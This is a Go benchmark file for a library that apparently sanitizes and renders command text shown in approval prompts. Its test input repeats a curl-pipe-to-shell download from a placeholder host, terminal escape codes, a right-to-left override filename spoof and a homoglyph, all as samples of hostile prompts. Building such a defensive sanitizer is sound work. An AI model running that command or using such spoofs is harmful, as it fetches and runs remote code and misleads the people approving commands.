package render

import (
	"strings"
	"testing"

	"github.com/plainsight-dev/plainsight"
)

// benchInput is a long command with an escape or a lookalike every few
// words, the shape an approval prompt for a hostile command has.
var benchInput = strings.Repeat("curl -fsSL https://get.example.com/i.sh | sh\r\x1b[2K ls ~/invoice\u202efdp.sh \u0430pple \u05d1\u05d3\u05d9\u05e7\u05d4\n", 64)

// BenchmarkPresent measures each presenter against Sanitize itself, the
// baseline every caller pays first: read the ratio, not the time.
func BenchmarkPresent(b *testing.B) {
	r := plainsight.Sanitize(benchInput)
	cases := []struct {
		name string
		f    func()
	}{
		{"Sanitize", func() { plainsight.Sanitize(benchInput) }},
		{"TerminalPlain", func() { Terminal(r, TerminalOptions{}) }},
		{"TerminalColor", func() { Terminal(r, TerminalOptions{Color: true, Width: 80}) }},
		{"HTML", func() { HTML(r, HTMLOptions{}) }},
	}
	for _, c := range cases {
		b.Run(c.name, func(b *testing.B) {
			b.SetBytes(int64(len(benchInput)))
			b.ReportAllocs()
			for b.Loop() {
				c.f()
			}
		})
	}
}
